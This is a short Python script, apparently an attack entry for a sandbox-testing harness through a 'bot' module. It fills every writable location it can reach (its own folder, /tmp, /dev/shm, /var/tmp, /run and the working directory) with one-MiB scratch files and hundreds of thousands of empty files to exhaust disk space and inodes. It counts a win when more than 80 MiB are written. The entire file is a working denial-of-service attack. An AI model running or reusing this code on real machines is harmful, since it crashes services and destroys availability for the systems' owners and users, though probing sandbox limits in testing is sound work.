"""Fills every disk that can be written to."""
import os

import bot


def attack():
    here = os.path.dirname(os.path.abspath(__file__))
    block = b"x" * 2**20
    written = 0
    for number, folder in enumerate((here, "/tmp", "/dev/shm", "/var/tmp", "/run", ".")):
        for n in range(1000):
            try:
                with open("%s/scratch%d-%d" % (folder, number, n), "wb") as f:
                    f.write(block)
                written += 1
            except OSError:
                break
        for n in range(200000):
            try:
                os.close(os.open("%s/empty%d-%d" % (folder, number, n), os.O_CREAT | os.O_WRONLY))
            except OSError:
                break
    if written > 80:
        bot.won("%d MiB of scratch" % written)


bot.play(attack)
